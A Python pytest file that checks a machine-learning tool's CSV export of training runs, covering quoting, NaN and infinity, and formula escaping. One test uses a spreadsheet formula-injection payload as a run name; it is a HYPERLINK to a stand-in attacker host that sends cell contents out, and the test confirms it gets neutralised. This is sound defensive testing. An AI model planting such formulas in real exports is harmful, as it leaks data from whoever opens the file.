"""Runs as CSV."""

from __future__ import annotations

import codecs
import io
import math

import pandas as pd
from tests.factories import add_run, metrics, spec

from reglab.store import Store
from reglab.ui.runs.actions import runs_csv


def test_each_run_is_a_row_with_its_settings_and_exact_figures(store: Store) -> None:
    add_run(store, spec(penalty__l2=0.03), name='a, "b"\nc', tags=["x", "y"], epochs=[metrics(1, val_loss=1 / 3)])
    add_run(store, name="none yet", state="queued")
    table = pd.read_csv(io.BytesIO(runs_csv(store.runs())), dtype={"last.val_loss": str})
    assert table["name"].tolist() == ["none yet", 'a, "b" c']
    assert float(table["last.val_loss"][1]) == 1 / 3
    assert pd.isna(table["last.val_loss"][0])
    assert table["penalty.l2"].tolist() == [0.01, 0.03]
    assert table["tags"][1] == "x;y"
    assert table["id"].is_unique


def test_figures_that_are_not_finite_are_written_as_such(store: Store) -> None:
    add_run(store, epochs=[metrics(1, val_loss=math.nan, train_loss=math.inf)], state="diverged")
    table = pd.read_csv(io.BytesIO(runs_csv(store.runs())), dtype=str, keep_default_na=False)
    assert (table["last.val_loss"][0], table["last.train_loss"][0]) == ("nan", "inf")


def test_text_is_never_a_formula_and_numbers_stay_numbers(store: Store) -> None:
    name = '=HYPERLINK("http://evil.example/"&A1,"λ₂")'
    add_run(store, name=name, tags=["@here", "=1+1"], note="+note\n-second line", epochs=[metrics(1, gap_loss=-0.5)])
    data = runs_csv(store.runs())
    assert data.startswith(codecs.BOM_UTF8)
    table = pd.read_csv(io.BytesIO(data))
    row = table.iloc[0]
    assert (row["name"], row["tags"], row["note"]) == (f"'{name}", "'@here;'=1+1", "'+note\n'-second line")
    assert row["last.gap_loss"] == -0.5
